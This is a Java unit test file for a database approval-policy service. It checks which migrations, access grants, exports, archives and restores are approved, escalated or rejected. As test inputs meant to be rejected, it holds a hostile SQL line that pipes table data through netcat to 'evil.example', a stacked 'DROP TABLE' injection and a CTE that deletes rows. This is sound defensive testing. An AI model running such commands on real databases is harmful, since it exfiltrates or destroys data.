package com.logicore.dbp.approval.policy;

import static com.logicore.dbp.approval.policy.ApprovalChain.Kind.ANY;
import static com.logicore.dbp.approval.policy.ApprovalChain.Kind.DBA;
import static com.logicore.dbp.approval.policy.ApprovalChain.Kind.OWNER;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.logicore.dbp.approval.dryrun.DryRunReport;
import com.logicore.dbp.approval.policy.PolicyDecision.Outcome;
import com.logicore.dbp.events.EventJson;
import com.logicore.dbp.events.RequestType;
import com.logicore.dbp.events.payload.PolicyEvaluated.Risk;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Decisions for every request type under the policy file the service ships with. */
class PolicyRulesTest {

    static final TableFacts DRIVERS = new TableFacts(
            1_200,
            300_000,
            Set.of("id", "name", "phone", "email", "license_number", "vehicle_id", "depot", "hired_on"));
    static final TableFacts DELIVERIES = new TableFacts(
            150_000,
            33_000_000,
            Set.of("id", "customer_name", "customer_phone", "customer_email", "delivery_address", "status"));
    static final DryRunReport CLEAN_DRY_RUN = new DryRunReport(
            List.of(new DryRunReport.StatementObservation(
                    0,
                    1,
                    "ALTER TABLE routing.routes…",
                    List.of("ACCESS EXCLUSIVE on routing.routes"),
                    List.of(),
                    null,
                    null)),
            null);

    private final PolicyRules rules = new PolicyRules(PolicyFileTest.builtIn(), "local");

    // --- CREATE_INDEX ----------------------------------------------------------------------------------------------

    @Test
    void indexOnASmallOwnedTableIsAutoApproved() {
        var decision = rules.evaluate(
                index("routing", "routing", Optional.of(new TableFacts(40_000, 5_000_000, Set.of("id", "route_id")))));
        assertThat(decision.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
        assertThat(decision.directives().path("lockTimeout").asText()).isEqualTo("5s");
    }

    @Test
    void indexOnALargeTableWaitsForADba() {
        var decision = rules.evaluate(index(
                "routing", "routing", Optional.of(new TableFacts(150_000, 30_000_000, Set.of("id", "route_id")))));
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.approvals()).containsExactly(DBA);
        assertThat(decision.findings()).extracting("code").contains("index.large-table");
    }

    @Test
    void anotherTeamsSchemaIsRejectedNamingSchemaAndOwner() {
        var decision = rules.evaluate(index("deliveries", "deliveries", Optional.empty()));
        assertThat(decision.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(decision.findings().get(0).message())
                .contains("logicore/deliveries")
                .contains("owned by team deliveries")
                .contains("not routing");
        assertThat(decision.findings().get(0).field()).isEqualTo("target.schema");
    }

    @Test
    void missingTableOrColumnIsRejectedWithTheField() {
        var noTable = rules.evaluate(index("routing", "routing", Optional.empty()));
        assertThat(noTable.findings().get(0).field()).isEqualTo("payload.table");
        var noColumn = rules.evaluate(index("routing", "routing", Optional.of(new TableFacts(10, 8192, Set.of("id")))));
        assertThat(noColumn.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(noColumn.findings().get(0).field()).isEqualTo("payload.columns[0]");
    }

    // --- SCHEMA_CHANGE ---------------------------------------------------------------------------------------------

    @Test
    void aCleanMigrationOnASmallTableThatPassedTheDryRunRunsUnattended() {
        var decision = rules.evaluate(migration("ALTER TABLE routing.routes ADD COLUMN notes text")
                .touching("routing.routes", new TableFacts(5_000, 900_000, Set.of("id")))
                .dryRun(CLEAN_DRY_RUN)
                .build());
        assertThat(decision.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
        assertThat(decision.risk()).isEqualTo(Risk.LOW);
        assertThat(decision.directives().path("statementTimeout").asText()).isEqualTo("15min");
    }

    @Test
    void withoutADryRunEvenACleanMigrationWaitsForAPerson() {
        var decision = rules.evaluate(
                migration("ALTER TABLE routing.routes ADD COLUMN notes text").build());
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.findings()).extracting("code").contains("dryrun.missing");
    }

    @Test
    void theProductionEnvironmentNeverRunsMigrationsUnattended() {
        var production = new PolicyRules(PolicyFileTest.builtIn(), "production");
        var decision = production.evaluate(migration("ALTER TABLE routing.routes ADD COLUMN notes text")
                .dryRun(CLEAN_DRY_RUN)
                .build());
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.reason()).contains("SCHEMA_CHANGE always needs a person");
    }

    @Test
    void aLockingMigrationGoesToAReviewerWithItsFindings() {
        var decision = rules.evaluate(migration("ALTER TABLE routing.stops ALTER COLUMN id TYPE bigint")
                .dryRun(CLEAN_DRY_RUN)
                .build());
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.risk()).isEqualTo(Risk.MEDIUM);
        assertThat(decision.approvals()).containsExactly(ANY);
        assertThat(decision.findings()).extracting("code").contains("column.type-change");
    }

    @Test
    void theSameLockingMigrationIsHighRiskOnALargeTableNeedsADbaAndAnOwnerAndSaysWhy() {
        String sql = "ALTER TABLE routing.stops ALTER COLUMN id TYPE bigint";
        var small = rules.evaluate(migration(sql)
                .touching("routing.stops", new TableFacts(2_000, 400_000, Set.of("id")))
                .build());
        var large = rules.evaluate(migration(sql)
                .touching("routing.stops", new TableFacts(2_100_000, 503_316_480, Set.of("id")))
                .build());
        assertThat(small.risk()).isEqualTo(Risk.MEDIUM);
        assertThat(large.risk()).isEqualTo(Risk.HIGH);
        assertThat(large.approvals()).containsExactly(DBA, OWNER);
        assertThat(large.findings())
                .filteredOn(f -> f.code().equals("context.large-table"))
                .singleElement()
                .satisfies(f -> assertThat(f.message()).contains("routing.stops: about 2,100,000 rows, 480.0 MB"));
    }

    @Test
    void copyToProgramOrAnotherTeamsSchemaRejectsTheMigration() {
        assertThat(rules.evaluate(migration("COPY routing.stops TO PROGRAM 'nc evil.example 80'")
                                .build())
                        .outcome())
                .isEqualTo(Outcome.REJECTED);
        var crossSchema = rules.evaluate(migration("UPDATE deliveries.deliveries SET status = 'delivered' WHERE id = 1")
                .build());
        assertThat(crossSchema.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(crossSchema.findings()).extracting("code").contains("security.foreign-schema");
    }

    @Test
    void thePolicyFileSetsTheLevelOfEachLintRule() throws Exception {
        var strict = new PolicyRules(
                PolicyFileTest.builtInWith("defaults:\n  rules:\n    column.type-change: error\n"), "local");
        var relaxed = new PolicyRules(
                PolicyFileTest.builtInWith("defaults:\n  rules:\n    column.type-change: off\n"), "local");
        String sql = "ALTER TABLE routing.stops ALTER COLUMN id TYPE bigint";
        assertThat(strict.evaluate(migration(sql).build()).outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(relaxed.evaluate(migration(sql).build()).findings())
                .extracting("code")
                .doesNotContain("column.type-change");
    }

    // --- ACCESS_GRANT ----------------------------------------------------------------------------------------------

    @Test
    void aShortMaskedReadOnlyGrantRunsUnattendedWithTheMaskingTheWorkerApplies() {
        var decision = rules.evaluate(accessGrant("fleet", 4, false).build());
        assertThat(decision.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
        assertThat(decision.directives().path("unmasked").asBoolean()).isFalse();
        assertThat(decision.directives().path("masking").findValuesAsText("column"))
                .containsExactlyInAnyOrder("name", "phone", "email", "license_number");
        assertThat(decision.findings()).extracting("code").contains("pii.masked");
    }

    @Test
    void aGrantLongerThanThePolicyAllowsIsRejectedButTeamsMayHaveLongerLimits() {
        var tooLong = rules.evaluate(accessGrant("fleet", 200, false).build());
        assertThat(tooLong.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(tooLong.findings().get(0).message()).contains("168 h");
        var analytics = rules.evaluate(accessGrant("fleet", 200, false)
                .team("analytics")
                .owner("analytics")
                .build());
        assertThat(analytics.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(analytics.findings()).extracting("code").contains("access.long");
    }

    @Test
    void unmaskedPersonalDataNeedsTheDataOwner() {
        var decision = rules.evaluate(accessGrant("fleet", 4, true).build());
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.approvals()).contains(OWNER);
        assertThat(decision.directives().path("unmasked").asBoolean()).isTrue();
        assertThat(decision.findings())
                .filteredOn(f -> f.code().equals("pii.unmasked"))
                .singleElement()
                .satisfies(f -> assertThat(f.message()).contains("fleet.drivers.phone (partial)"));
    }

    @Test
    void readingAnotherTeamsDataNeedsThatTeamsApprover() {
        var decision = rules.evaluate(
                accessGrant("deliveries", 4, false).owner("deliveries").build());
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.approvals()).containsExactly(OWNER);
        assertThat(decision.findings()).extracting("code").contains("ownership.other-team");
    }

    // --- DATA_EXPORT -----------------------------------------------------------------------------------------------

    @Test
    void aMaskedExportWithinItsRowLimitRunsUnattended() {
        var decision = rules.evaluate(export(Map.of("tables", List.of("deliveries"), "purpose", "analytics: weekly"))
                .build());
        assertThat(decision.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
        assertThat(decision.directives().path("rowLimit").asLong()).isEqualTo(10_000_000);
        assertThat(decision.directives().path("masking").findValuesAsText("column"))
                .contains("customer_phone", "customer_email");
    }

    @Test
    void anExportAboveThePurposesRowLimitGoesToADba() {
        var decision = rules.evaluate(export(Map.of("tables", List.of("deliveries"), "purpose", "support ticket 4711"))
                .build());
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.approvals()).contains(DBA);
        assertThat(decision.findings())
                .filteredOn(f -> f.code().equals("export.over-limit"))
                .singleElement()
                .satisfies(f -> assertThat(f.message()).contains("150,000 rows").contains("10,000-row limit"));
    }

    @Test
    void anUnmaskedExportNeedsADataOwnerAndOnlyTheChosenColumnsAreMasked() {
        var masked = rules.evaluate(export(Map.of(
                        "tables", List.of("deliveries"),
                        "columns", List.of("id", "customer_email", "status"),
                        "purpose", "analytics"))
                .build());
        assertThat(masked.directives().path("masking").findValuesAsText("column"))
                .containsExactly("customer_email");
        var unmasked =
                rules.evaluate(export(Map.of("tables", List.of("deliveries"), "purpose", "analytics", "unmasked", true))
                        .build());
        assertThat(unmasked.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(unmasked.approvals()).contains(OWNER);
    }

    @Test
    void anExportQueryMustOnlyReadAndItsTablesMustExist() {
        var delete = rules.evaluate(export(Map.of(
                        "query", "WITH gone AS (DELETE FROM deliveries.deliveries RETURNING *) SELECT * FROM gone",
                        "purpose", "analytics"))
                .build());
        assertThat(delete.outcome()).isEqualTo(Outcome.REJECTED);
        var missing =
                rules.evaluate(export(Map.of("query", "SELECT d.id FROM deliveries.parcels d", "purpose", "analytics"))
                        .build());
        assertThat(missing.findings()).extracting("code").contains("export.table-missing");
        var joined = rules.evaluate(export(Map.of(
                        "query",
                        "SELECT d.id, extract(year FROM d.created_at) FROM deliveries.deliveries d"
                                + " JOIN deliveries.deliveries e ON e.id = d.id WHERE d.status = 'failed'",
                        "purpose",
                        "analytics"))
                .build());
        assertThat(joined.outcome()).as(joined.findings().toString()).isEqualTo(Outcome.AUTO_APPROVED);
        assertThat(joined.directives().path("masking").findValuesAsText("table"))
                .contains("deliveries.deliveries");
    }

    // --- ARCHIVE, BACKUP, RESTORE, PROVISION_SCHEMA, ROLLBACK, QUERY_REVIEW ----------------------------------------

    @Test
    void anArchiveInsideTheRetentionIsRejectedAndOneOutsideRunsUnattended() {
        var young = rules.evaluate(archive("driver_locations", 7).build());
        assertThat(young.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(young.findings().get(0).message()).contains("30 days");
        assertThat(rules.evaluate(archive("driver_locations", 90).build()).outcome())
                .isEqualTo(Outcome.AUTO_APPROVED);
        var unknown = rules.evaluate(archive("vehicle_pings", 120).build());
        assertThat(unknown.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(unknown.findings()).extracting("code").contains("archive.no-policy");
    }

    @Test
    void anArchiveRestoreSkipsTheRetentionButAsksAReviewerAndANoDeleteRunSaysSo() {
        var restore = rules.evaluate(request(
                        RequestType.ARCHIVE,
                        "driver_locations",
                        Map.of(
                                "collection",
                                "driver_locations",
                                "restoreFromRequestId",
                                "6f1c2a8e-3b4d-4c5e-9f70-8a9b0c1d2e3f"))
                .database("tracking")
                .team("fleet")
                .owner("fleet")
                .build());
        assertThat(restore.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(restore.findings())
                .extracting("code")
                .contains("archive.restore")
                .doesNotContain("archive.inside-retention");
        var keep = rules.evaluate(request(
                        RequestType.ARCHIVE,
                        "driver_locations",
                        Map.of(
                                "collection",
                                "driver_locations",
                                "timeField",
                                "recordedAt",
                                "olderThanDays",
                                90,
                                "noDelete",
                                true,
                                "maxDocsPerSecond",
                                5_000))
                .database("tracking")
                .team("fleet")
                .owner("fleet")
                .build());
        assertThat(keep.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
        assertThat(keep.findings()).extracting("message").anyMatch(m -> m.toString()
                .contains("source kept"));
    }

    @Test
    void aBackupRunsUnattendedAndARestoreNeverOverwritesALiveSchema() {
        var backup = rules.evaluate(request(RequestType.BACKUP, "routing", Map.of("note", "before RFC-118"))
                .touching("routing.stops", new TableFacts(40_000, 6_000_000, Set.of("id")))
                .build());
        assertThat(backup.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
        var earlier = new PolicyInput.EarlierRequest(
                "b1", RequestType.BACKUP, "routing", "logicore", "routing", "APPROVED", json(Map.of()));
        var overLive = rules.evaluate(
                request(RequestType.RESTORE, "routing", Map.of("backupRequestId", "b1", "intoSchema", "routing"))
                        .referenced(earlier)
                        .existing("routing")
                        .build());
        assertThat(overLive.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(overLive.findings()).extracting("code").contains("schema.exists");
        var fresh = rules.evaluate(
                request(RequestType.RESTORE, "routing", Map.of("backupRequestId", "b1", "intoSchema", "routing_copy"))
                        .referenced(earlier)
                        .build());
        assertThat(fresh.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
    }

    @Test
    void provisioningChecksTheNameAndAlwaysAsksAPerson() {
        var reserved = rules.evaluate(request(
                        RequestType.PROVISION_SCHEMA,
                        "pg_billing",
                        Map.of("schema", "pg_billing", "owningTeam", "routing"))
                .owner(null)
                .build());
        assertThat(reserved.findings()).extracting("code").contains("schema.reserved");
        var fine = rules.evaluate(
                request(RequestType.PROVISION_SCHEMA, "billing", Map.of("schema", "billing", "owningTeam", "routing"))
                        .owner(null)
                        .build());
        assertThat(fine.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(fine.reason()).contains("PROVISION_SCHEMA always needs a person");
    }

    @Test
    void aRollbackNeedsUndoScriptsForEveryMigration() {
        var change = new PolicyInput.EarlierRequest(
                "c1",
                RequestType.SCHEMA_CHANGE,
                "routing",
                "logicore",
                "routing",
                "APPROVED",
                json(Map.of(
                        "migrations",
                        List.of(Map.of("version", "7", "sql", "ALTER TABLE routing.routes ADD COLUMN notes text")))));
        var noUndo = rules.evaluate(request(RequestType.ROLLBACK, "routing", Map.of("schemaChangeRequestId", "c1"))
                .referenced(change)
                .build());
        assertThat(noUndo.findings()).extracting("code").contains("rollback.no-undo");
    }

    @Test
    void aQueryReviewIsAlwaysAutomaticButMustBeOneSelect() {
        var review = rules.evaluate(request(
                        RequestType.QUERY_REVIEW,
                        "routing",
                        Map.of("sql", "SELECT * FROM routing.stops WHERE eta > now()"))
                .build());
        assertThat(review.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
        var smuggled = rules.evaluate(
                request(RequestType.QUERY_REVIEW, "routing", Map.of("sql", "SELECT 1; DROP TABLE routing.stops"))
                        .build());
        assertThat(smuggled.outcome()).isEqualTo(Outcome.REJECTED);
    }

    // --- inputs ----------------------------------------------------------------------------------------------------

    private static PolicyInput index(String schema, String owner, Optional<TableFacts> table) {
        return request(RequestType.CREATE_INDEX, schema, Map.of("table", "stops", "columns", List.of("route_id")))
                .owner(owner)
                .indexTable(table)
                .build();
    }

    private static Input migration(String sql) {
        return request(
                RequestType.SCHEMA_CHANGE,
                "routing",
                Map.of("migrations", List.of(Map.of("version", "7", "description", "test", "sql", sql))));
    }

    private static Input accessGrant(String schema, int hours, boolean unmasked) {
        return request(
                        RequestType.ACCESS_GRANT,
                        schema,
                        Map.of(
                                "grantee", "alice",
                                "granteeKind", "PERSON",
                                "durationHours", hours,
                                "reason", "investigate late deliveries in Hamburg",
                                "unmasked", unmasked))
                .team("fleet")
                .owner("fleet");
    }

    private static Input export(Map<String, Object> payload) {
        Map<String, Object> full = new HashMap<>(payload);
        full.putIfAbsent("format", "CSV");
        return request(RequestType.DATA_EXPORT, "deliveries", full)
                .team("deliveries")
                .owner("deliveries")
                .touching("deliveries.deliveries", DELIVERIES)
                .touching("fleet.drivers", DRIVERS);
    }

    private static Input archive(String collection, int days) {
        return request(
                        RequestType.ARCHIVE,
                        collection,
                        Map.of("collection", collection, "timeField", "recordedAt", "olderThanDays", days))
                .database("tracking")
                .team("fleet")
                .owner("fleet");
    }

    private static Input request(RequestType type, String schema, Map<String, Object> payload) {
        return new Input(type, schema, json(payload));
    }

    private static JsonNode json(Object value) {
        return EventJson.mapper().valueToTree(value);
    }

    /** A PolicyInput with the routing team asking about its own schema unless told otherwise. */
    static final class Input {
        private final RequestType type;
        private final String schema;
        private final JsonNode payload;
        private String team = "routing";
        private String database = "logicore";
        private String owner = "routing";
        private Optional<TableFacts> indexTable = Optional.empty();
        private final Map<String, TableFacts> touched = new HashMap<>();
        private final java.util.Set<String> existing = new java.util.HashSet<>();
        private Optional<PolicyInput.EarlierRequest> referenced = Optional.empty();
        private DryRunReport dryRun;

        Input(RequestType type, String schema, JsonNode payload) {
            this.type = type;
            this.schema = schema;
            this.payload = payload;
        }

        Input team(String value) {
            team = value;
            return this;
        }

        Input database(String value) {
            database = value;
            return this;
        }

        Input owner(String value) {
            owner = value;
            return this;
        }

        Input indexTable(Optional<TableFacts> value) {
            indexTable = value;
            return this;
        }

        Input touching(String table, TableFacts facts) {
            touched.put(table, facts);
            return this;
        }

        Input existing(String existingSchema) {
            existing.add(existingSchema);
            return this;
        }

        Input referenced(PolicyInput.EarlierRequest value) {
            referenced = Optional.of(value);
            return this;
        }

        Input dryRun(DryRunReport value) {
            dryRun = value;
            return this;
        }

        PolicyInput build() {
            return new PolicyInput(
                    type,
                    team,
                    database,
                    schema,
                    Optional.ofNullable(owner),
                    Set.of(team),
                    payload,
                    indexTable,
                    touched,
                    existing,
                    referenced,
                    dryRun);
        }
    }
}
